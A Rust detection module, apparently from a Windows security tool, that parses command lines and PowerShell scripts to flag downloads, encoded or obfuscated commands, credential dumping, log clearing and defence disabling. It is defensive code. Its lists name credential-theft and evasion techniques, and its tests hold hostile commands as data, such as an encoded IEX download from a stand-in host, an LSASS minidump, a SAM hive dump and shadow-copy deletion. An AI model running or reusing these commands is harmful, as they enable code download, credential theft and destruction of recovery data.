//! What of a command line, a script or a path speaks of somebody who hides, fetches or steals: a kernel, without I/O or state.
//!
//! A command line is taken apart as Windows does; PowerShell's parameters count however they are shortened, an encoded command
//! is decoded and judged as a script, and of a script what makes it hard to read (back-ticks, carets, texts put together) is
//! taken out first. You may rely on: linear in the length; nothing is run. Left out: weighing signs (the detectors).

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use rows::windows_event::Sign;
use std::collections::BTreeSet;

/// Bytes of a command or script that are looked at.
const LOOKED: usize = 256 << 10;
/// Commands within commands.
const LEVELS: usize = 3;

/// The signs in a command line, started by this program.
pub fn signs(line: &str, parent: &str) -> BTreeSet<Sign> {
    let mut found = BTreeSet::new();
    command(line, 0, &mut found);
    if is_reader(&program(parent)) && is_interpreter(&program(&first(line))) {
        found.insert(Sign::FromDocument);
    }
    found
}

/// The signs in a script of PowerShell.
pub fn script_signs(text: &str) -> BTreeSet<Sign> {
    let mut found = BTreeSet::new();
    script(text, 0, &mut found);
    found
}

/// The signs in what starts by itself: a service's, a task's or an entry's command.
pub fn start_signs(line: &str) -> BTreeSet<Sign> {
    let mut found = signs(line, "");
    let path = first(line);
    if is_interpreter(&program(&path)) {
        found.insert(Sign::Interpreter);
    }
    if is_writable(&path) {
        found.insert(Sign::UserPath);
    }
    found
}

/// The first word of a command line: the program, with its path.
pub fn first(line: &str) -> String {
    let line = formats::clip(line.trim(), LOOKED);
    match line.strip_prefix('"') {
        Some(quoted) => quoted.split('"').next().unwrap_or_default().into(),
        // A path with blanks and without quotes ends with its ending.
        None => {
            let lower = line.to_ascii_lowercase();
            let end = [".exe", ".bat", ".cmd", ".ps1", ".vbs", ".sys", ".dll"]
                .iter()
                .filter_map(|ending| lower.find(ending).map(|at| at + ending.len()))
                .filter(|end| lower[*end..].is_empty() || lower[*end..].starts_with([' ', '\t']))
                .min();
            let blank = line.find([' ', '\t']).unwrap_or(line.len());
            line[..end.filter(|_| line.contains('\\')).unwrap_or(blank)].into()
        }
    }
}

/// The name of a program, without path and ending, lower case.
pub fn program(path: &str) -> String {
    let name = path.rsplit(['\\', '/']).next().unwrap_or(path).trim().to_ascii_lowercase();
    match name.strip_suffix(".exe").unwrap_or(&name) {
        // How services name the shell.
        "%comspec%" => "cmd".into(),
        name => name.into(),
    }
}

/// Whether a program runs what it is given.
pub fn is_interpreter(name: &str) -> bool {
    const NAMES: [&str; 13] = [
        "cmd",
        "powershell",
        "powershell_ise",
        "pwsh",
        "wscript",
        "cscript",
        "mshta",
        "rundll32",
        "regsvr32",
        "bash",
        "python",
        "msbuild",
        "installutil",
    ];
    NAMES.contains(&name)
}

/// Whether a program opens what others send.
fn is_reader(name: &str) -> bool {
    const NAMES: [&str; 13] = [
        "winword",
        "excel",
        "powerpnt",
        "outlook",
        "onenote",
        "msaccess",
        "mspub",
        "visio",
        "acrord32",
        "acrobat",
        "foxitreader",
        "wordpad",
        "thunderbird",
    ];
    NAMES.contains(&name)
}

/// Whether anybody who is logged on may write there.
pub fn is_writable(path: &str) -> bool {
    const PLACES: [&str; 12] = [
        "\\appdata\\",
        "\\temp\\",
        "\\tmp\\",
        "\\users\\public\\",
        "\\downloads\\",
        "\\$recycle.bin\\",
        "\\perflogs\\",
        "%temp%",
        "%appdata%",
        "%localappdata%",
        "%public%",
        "\\windows\\tasks\\",
    ];
    let path = path.to_ascii_lowercase().replace('/', "\\");
    PLACES.iter().any(|p| path.contains(p))
        // A program beside the folders of ProgramData, not within one.
        || path.split("\\programdata\\").nth(1).is_some_and(|rest| !rest.contains('\\'))
}

/// Whether a name is as machines make up names: letters in no order of any language, with capitals within.
pub fn is_made_up(name: &str) -> bool {
    let letters = name.chars().filter(|c| c.is_ascii_alphabetic()).count();
    if !(6..=32).contains(&name.len()) || !name.bytes().all(|b| b.is_ascii_alphanumeric()) || letters < 4 {
        return false;
    }
    let chars: Vec<char> = name.chars().collect();
    let both = |w: &&[char]| w.iter().all(char::is_ascii_alphabetic);
    let turns = |w: &&[char]| w[0].is_ascii_lowercase() != w[1].is_ascii_lowercase();
    let changes = chars.windows(2).filter(both).filter(turns).count();
    let lower = name.to_ascii_lowercase();
    let vowel = |b: u8| matches!(b, b'a' | b'e' | b'i' | b'o' | b'u' | b'y');
    let mut run = 0;
    let longest = lower
        .bytes()
        .map(|b| {
            if b.is_ascii_alphabetic() && !vowel(b) {
                run += 1;
                run
            } else {
                run = 0;
                0
            }
        })
        .max();
    longest.unwrap_or(0) >= 5 || changes * 2 >= name.len() || changes * 3 >= name.len() && longest.unwrap_or(0) >= 4
}

/// Takes a command line into its words: quotes hold together, carets outside quotes are the shell's.
fn words(line: &str) -> Vec<String> {
    let mut all = Vec::new();
    let (mut word, mut quoted, mut any) = (String::new(), false, false);
    for c in line.chars() {
        match c {
            '"' => (quoted, any) = (!quoted, true),
            '^' if !quoted => {}
            c if c.is_whitespace() && !quoted => {
                if any {
                    all.push(std::mem::take(&mut word));
                    any = false;
                }
            }
            c => {
                word.push(c);
                any = true;
            }
        }
    }
    if any {
        all.push(word);
    }
    all
}

fn command(line: &str, level: usize, found: &mut BTreeSet<Sign>) {
    if level > LEVELS {
        return;
    }
    let line = formats::clip(line, LOOKED);
    if line.matches('^').count() > 8 {
        found.insert(Sign::Obfuscated);
    }
    // The shell takes carets out before it runs a line.
    let plain = if level > 0 { line.replace('^', "") } else { line.to_string() };
    let line = plain.as_str();
    let name = program(&first(line));
    let words = words(line);
    let rest = &words[1.min(words.len())..];
    let lower: Vec<String> = rest.iter().map(|w| w.to_lowercase()).collect();
    let has = |word: &str| lower.iter().any(|w| w.contains(word));
    let flag = |names: &[&str]| {
        lower.iter().any(|w| w.strip_prefix(['-', '/', '–', '—', '―']).is_some_and(|f| names.contains(&f)))
    };
    match name.as_str() {
        "powershell" | "pwsh" | "powershell_ise" => powershell(rest, level, found),
        "cmd" => {
            let at = lower.iter().position(|w| matches!(w.get(..2), Some("/c" | "/k" | "/r")));
            if let Some(at) = at {
                let head = rest[at].get(2..).unwrap_or_default().to_string();
                let inner: Vec<&str> = std::iter::once(head.as_str())
                    .chain(rest[at + 1..].iter().map(String::as_str))
                    .filter(|w| !w.is_empty())
                    .collect();
                let inner = inner.join(" ");
                inner.split(['&', '|']).for_each(|one| command(one, level + 1, found));
            }
        }
        // The shell's own word for running something beside it.
        "start" if level > 0 => {
            let inner: Vec<&str> = rest.iter().map(String::as_str).skip_while(|w| w.starts_with('/')).collect();
            command(&inner.join(" "), level + 1, found);
        }
        "mshta" if has("http:") || has("https:") || has("javascript:") || has("vbscript:") => {
            found.extend([Sign::ByProxy, Sign::RunsText]);
        }
        "regsvr32" if lower.iter().any(|w| w.contains("/i:") || w.contains("-i:")) && has("scrobj") => {
            found.extend([Sign::ByProxy, Sign::Download]);
        }
        "rundll32" => {
            if has("javascript:") || has("url.dll") && has("http") || has("mshtml") {
                found.insert(Sign::ByProxy);
            }
            if has("comsvcs") && (has("minidump") || has("#24")) {
                found.insert(Sign::Credentials);
            }
            if lower.first().is_some_and(|dll| is_writable(dll)) {
                found.extend([Sign::ByProxy, Sign::UserPath]);
            }
        }
        "wscript" | "cscript" if lower.iter().any(|w| is_writable(w)) => {
            found.insert(Sign::UserPath);
        }
        "certutil" => {
            if flag(&["urlcache", "verifyctl"]) && has("http") {
                found.extend([Sign::Download, Sign::ByProxy]);
            }
            if flag(&["decode", "decodehex"]) {
                found.insert(Sign::Obfuscated);
            }
        }
        "bitsadmin" if has("http") && flag(&["transfer", "addfile"]) => found.extend([Sign::Download, Sign::ByProxy]),
        "curl" | "wget" if lower.iter().any(|w| is_writable(w)) => {
            found.insert(Sign::Download);
        }
        "msiexec" if has("http:") || has("https:") => found.extend([Sign::Download, Sign::ByProxy]),
        "installutil" | "msbuild" | "regasm" | "regsvcs" if lower.iter().any(|w| is_writable(w)) => {
            found.extend([Sign::ByProxy, Sign::UserPath]);
        }
        "vssadmin" if has("delete") && has("shadows") || has("resize") && has("shadowstorage") => {
            found.insert(Sign::NoRecovery);
        }
        "wbadmin" if has("delete") => {
            found.insert(Sign::NoRecovery);
        }
        "bcdedit" if has("recoveryenabled") || has("ignoreallfailures") => {
            found.insert(Sign::NoRecovery);
        }
        "wevtutil" if lower.iter().any(|w| w == "cl" || w == "clear-log") => {
            found.insert(Sign::ClearsLogs);
        }
        "fsutil" if has("deletejournal") => {
            found.insert(Sign::ClearsLogs);
        }
        "wmic" => {
            if lower.iter().any(|w| w.starts_with("/node:")) && has("create") {
                found.insert(Sign::Remote);
            }
            if has("shadowcopy") && has("delete") {
                found.insert(Sign::NoRecovery);
            }
            if lower.iter().any(|w| w.starts_with("/format:") && w.contains("http")) {
                found.extend([Sign::ByProxy, Sign::Download]);
            }
        }
        "winrs" if lower.iter().any(|w| w.starts_with("-r:") || w.starts_with("/r:")) => {
            found.insert(Sign::Remote);
        }
        "psexec" | "psexec64" | "paexec" if lower.iter().any(|w| w.starts_with("\\\\")) => {
            found.insert(Sign::Remote);
        }
        "schtasks" => {
            if lower.iter().any(|w| w == "/s") && has("/create") {
                found.insert(Sign::Remote);
            }
            if let Some(at) = lower.iter().position(|w| w == "/tr") {
                rest.get(at + 1).into_iter().for_each(|run| command(run, level + 1, found));
            }
        }
        "sc" => {
            if lower.first().is_some_and(|w| w.starts_with("\\\\")) && has("create") {
                found.insert(Sign::Remote);
            }
            let off = lower.iter().any(|w| matches!(w.as_str(), "stop" | "delete")) || has("disabled");
            if off && (has("windefend") || has("eventlog") || has("sense") || has("sysmon")) {
                found.insert(Sign::Blinds);
            }
        }
        "net" | "net1" if has("stop") && (has("windefend") || has("eventlog") || has("sysmon")) => {
            found.insert(Sign::Blinds);
        }
        "auditpol" if has("/clear") || has("/success:disable") || has("/failure:disable") => {
            found.insert(Sign::Blinds);
        }
        "netsh" if has("advfirewall") && has("state") && has("off") => {
            found.insert(Sign::Blinds);
        }
        "reg" => {
            let hive = |w: &String| {
                let key = w.trim_end_matches('\\').rsplit('\\').next().unwrap_or_default();
                matches!(key, "sam" | "system" | "security")
                    && (w.starts_with("hklm") || w.starts_with("hkey_local_machine"))
            };
            if has("save") && lower.iter().any(hive) {
                found.insert(Sign::Credentials);
            }
            if has("add") && (has("disablerealtimemonitoring") || has("disableantispyware")) {
                found.insert(Sign::Blinds);
            }
        }
        "procdump" | "procdump64" if has("lsass") => {
            found.insert(Sign::Credentials);
        }
        "ntdsutil" if has("ifm") || has("ntds") => {
            found.insert(Sign::Credentials);
        }
        "mimikatz" | "lazagne" | "secretsdump" | "gsecdump" | "pwdump" | "nanodump" => {
            found.insert(Sign::Credentials);
        }
        _ => {}
    }
    if ["sekurlsa::", "lsadump::", "kerberos::ptt", "privilege::debug", "crypto::"].iter().any(|w| has(w)) {
        found.insert(Sign::Credentials);
    }
}

/// PowerShell's own parameters, however shortened, and what it is told to run.
fn powershell(words: &[String], level: usize, found: &mut BTreeSet<Sign>) {
    let mut hidden = 0;
    let mut at = 0;
    while at < words.len() {
        let word = words[at].to_lowercase();
        let value = words.get(at + 1).map(String::as_str).unwrap_or_default();
        let Some(parameter) = word.strip_prefix(['-', '/', '–', '—', '―']) else { break };
        let short = |whole: &str, least: usize| parameter.len() >= least && whole.starts_with(parameter);
        match () {
            () if short("encodedcommand", 1) || parameter == "ec" => {
                found.insert(Sign::Encoded);
                if let Some(text) = decoded(value) {
                    script(&text, level + 1, found);
                }
                at += 1;
            }
            () if short("windowstyle", 1) => {
                hidden += u32::from(value.to_lowercase().starts_with('h') || value == "1");
                at += 1;
            }
            () if short("executionpolicy", 2) || parameter == "ep" => {
                hidden += u32::from(matches!(value.to_lowercase().as_str(), "bypass" | "unrestricted"));
                at += 1;
            }
            () if short("command", 1) => break,
            () if short("file", 1) => {
                if is_writable(value) {
                    found.insert(Sign::UserPath);
                }
                break;
            }
            () if short("version", 1) => {
                // Before scripts were written down.
                if value.starts_with('2') {
                    found.insert(Sign::Blinds);
                }
                at += 1;
            }
            () => {}
        }
        at += 1;
    }
    if hidden >= 2 {
        found.insert(Sign::Hidden);
    }
    script(&words[at.min(words.len())..].join(" "), level + 1, found);
}

/// A command encoded as PowerShell takes it: UTF-16 in base64.
pub fn decoded(text: &str) -> Option<String> {
    let text: String = formats::clip(text, LOOKED).chars().filter(|c| !c.is_whitespace()).collect();
    let text = text.trim_end_matches('=');
    let padded = format!("{text}{}", &"==="[..(4 - text.len() % 4) % 4]);
    let bytes = STANDARD.decode(padded).ok()?;
    let units: Vec<u16> = bytes.chunks_exact(2).map(|b| u16::from_le_bytes([b[0], b[1]])).collect();
    let wide = String::from_utf16_lossy(&units);
    let readable = wide.chars().filter(|c| c.is_ascii_graphic() || c.is_whitespace()).count();
    if 4 * readable >= 3 * units.len().max(1) { Some(wide) } else { String::from_utf8(bytes).ok() }
}

/// A script without what makes it hard to read; and whether there was much of that.
fn plain(text: &str) -> (String, bool) {
    let mut out = String::with_capacity(text.len());
    let mut odd = 0;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '`' if chars.peek().is_some_and(|n| n.is_alphanumeric()) => odd += 1,
            '^' => odd += 1,
            c => out.extend(c.to_lowercase()),
        }
    }
    for join in ["'+'", "' + '", "\"+\"", "\" + \""] {
        odd += out.matches(join).count();
        out = out.replace(join, "");
    }
    (out, odd > 6)
}

fn script(text: &str, level: usize, found: &mut BTreeSet<Sign>) {
    if level > LEVELS || text.is_empty() {
        return;
    }
    let (text, odd) = plain(formats::clip(text, LOOKED));
    if odd {
        found.insert(Sign::Obfuscated);
    }
    let has = |word: &str| text.contains(word);
    let any = |words: &[&str]| words.iter().any(|w| text.contains(w));
    // A word of a script stands alone.
    let word = |wanted: &str| {
        text.match_indices(wanted).any(|(at, _)| {
            let edge = |c: Option<char>| !c.is_some_and(|c| c.is_alphanumeric() || matches!(c, '-' | '_' | '$'));
            edge(text[..at].chars().next_back()) && edge(text[at + wanted.len()..].chars().next())
        })
    };
    let fetches = any(&["downloadstring", "downloadfile", "downloaddata", "start-bitstransfer"])
        || (word("invoke-webrequest")
            || word("iwr")
            || word("wget")
            || word("curl")
            || word("invoke-restmethod")
            || word("irm"))
            && has("http");
    let runs = word("iex") || word("invoke-expression") || has("[scriptblock]::create(");
    let unpacks = has("frombase64string(");
    if fetches {
        found.insert(Sign::Download);
    }
    // Scripts of good will run texts too; of what is fetched or unpacked there is no need to.
    if runs && (fetches || unpacks || odd) {
        found.insert(Sign::RunsText);
    }
    if any(&["[reflection.assembly]::load(", "[system.reflection.assembly]::load("]) && (unpacks || fetches)
        || has("virtualalloc") && any(&["getdelegateforfunctionpointer", "createthread", "[byte[]]"])
        || has("invoke-reflectivepeinjection")
        || has("invoke-shellcode")
        || unpacks && any(&["gzipstream", "deflatestream"]) && runs
    {
        found.insert(Sign::InMemory);
    }
    let prefers = word("set-mppreference") || word("add-mppreference");
    if any(&["amsiutils", "amsiinitfailed", "amsiscanbuffer", "amsicontext"])
        || prefers && any(&["-disable", "-exclusion"])
        || has("scriptblocklogging") && any(&["setvalue", "set-itemproperty", "remove-item"])
        || any(&["stop-service", "set-service"]) && any(&["windefend", "eventlog", "sysmon"])
    {
        found.insert(Sign::Blinds);
    }
    if any(&[
        "sekurlsa",
        "lsadump",
        "invoke-mimikatz",
        "out-minidump",
        "invoke-kerberoast",
        "invoke-dcsync",
        "get-gpppassword",
        "invoke-ntdsdump",
        "dump-chromepasswords",
    ]) || has("lsass") && any(&["minidump", "comsvcs", "readprocessmemory"])
    {
        found.insert(Sign::Credentials);
    }
    if word("clear-eventlog") || has("wevtutil cl ") || word("remove-eventlog") {
        found.insert(Sign::ClearsLogs);
    }
    if has("win32_shadowcopy") && any(&["delete(", "remove-wmiobject", "remove-ciminstance"]) {
        found.insert(Sign::NoRecovery);
    }
    if (word("invoke-command") || word("new-pssession") || word("enter-pssession"))
        && has("-computername")
        && has("-credential")
    {
        found.insert(Sign::Remote);
    }
    // A command line within.
    for part in text.split(['\n', ';', '|', '{']) {
        let part = part.trim().trim_start_matches(['&', ' ']);
        let name = program(&first(part));
        if is_interpreter(&name)
            || matches!(name.as_str(), "vssadmin" | "wevtutil" | "certutil" | "bitsadmin" | "reg" | "schtasks")
        {
            command(part, level + 1, found);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn told(line: &str) -> String {
        signs(line, "").iter().map(|s| s.as_str()).collect::<Vec<_>>().join(" ")
    }

    #[test]
    fn commands_are_read_as_their_programs_read_them() {
        let encoded = "powershell -nop -w hidden -ep bypass -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA";
        assert_eq!(told(encoded), "encoded download runs_text hidden");
        assert_eq!(
            told("cmd.exe /c \"p^o^w^e^r^s^h^e^l^l -EncodedC AAAA & vssadmin delete shadows /all\""),
            "encoded no_recovery obfuscated"
        );
        assert_eq!(told("%COMSPEC% /C start /b powershell.exe -nop -w hidden -enc AAAA"), "encoded");
        assert_eq!(told(r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\x.dmp full"), "credentials");
        assert_eq!(told(r"C:\Windows\System32\reg.exe save HKLM\SAM sam.hiv"), "credentials");
        assert_eq!(told("certutil –urlcache -split -f http://x/y y.exe"), "download by_proxy");
        assert_eq!(
            told("powershell.exe I`E`X (New-Object Net.WebClient).('Down'+'loadString')('http://x')"),
            "download runs_text"
        );
        for innocent in [
            r#""C:\Program Files\Git\bin\git.exe" fetch -e origin"#,
            "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
            "cmd.exe /c dir",
            "wevtutil.exe qe System",
            "reg save HKCU\\Software\\X x.hiv",
            "vssadmin list shadows",
        ] {
            assert_eq!(told(innocent), "", "{innocent}");
        }
    }

    #[test]
    fn names_made_up_by_machines() {
        for name in ["BTOBTO", "spoolsv", "PSEXESVC", "VBoxService", "gupdate", "WinDefend", "TrustedInstaller"] {
            assert!(!is_made_up(name), "{name}");
        }
        for name in ["xkQzWpLr", "aBcDeFgH", "hbQtZkWv"] {
            assert!(is_made_up(name), "{name}");
        }
    }
}
